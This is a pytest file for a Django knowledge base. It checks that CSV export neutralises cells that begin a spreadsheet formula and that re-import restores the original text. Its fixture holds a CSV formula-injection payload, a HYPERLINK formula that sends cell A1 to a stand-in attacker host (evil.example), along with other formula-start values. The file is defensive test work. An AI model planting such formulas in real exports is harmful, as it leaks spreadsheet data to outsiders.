"""Formula injection in CSV downloads (issue 12, item 8): the knowledge base's export escapes cells as the
reports do (one helper, common.cells.safe_cell), and its import reads them back as they were."""

from __future__ import annotations

import csv
import io

import pytest

from bot import kb
from bot.transfer import ArticleInput, ExampleInput
from common.cells import FORMULA_STARTS

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Track your parcel")'


@pytest.fixture
def poisoned(admin):
    # A customer's message became an example question; an article's fields may come from anyone.
    return kb.create_article(
        data=ArticleInput(
            title="+1 delivery",
            answer="@SUM(1+1)",
            tags=["-tag"],
            examples=[ExampleInput(text=ATTACK, language="en"), ExampleInput(text="where is my parcel", language="en")],
        ),
        by=admin,
    )


def export(client) -> list[dict[str, str]]:
    response = client.get("/kb/export/", {"format": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_no_cell_of_the_knowledge_base_export_starts_a_formula(client, admin, poisoned):
    client.force_login(admin)
    (row,) = export(client)
    for name, value in row.items():
        assert not value.startswith(FORMULA_STARTS), (name, value)
    assert row["title"] == "'+1 delivery"
    assert row["answer"] == "'@SUM(1+1)"
    assert row["examples"].startswith("'=HYPERLINK(")


def test_an_exported_file_imports_back_to_the_same_text(client, admin, poisoned):
    client.force_login(admin)
    response = client.get("/kb/export/", {"format": "csv"})
    plan = kb.check_file(content=response.content.decode("utf-8-sig"), fmt="csv")
    (article, pk) = plan.rows[0]
    assert pk == poisoned.pk
    assert article.title == "+1 delivery"
    assert article.answer == "@SUM(1+1)"
    assert article.tags == ["-tag"]
    assert [e.text for e in article.examples] == [ATTACK, "where is my parcel"]
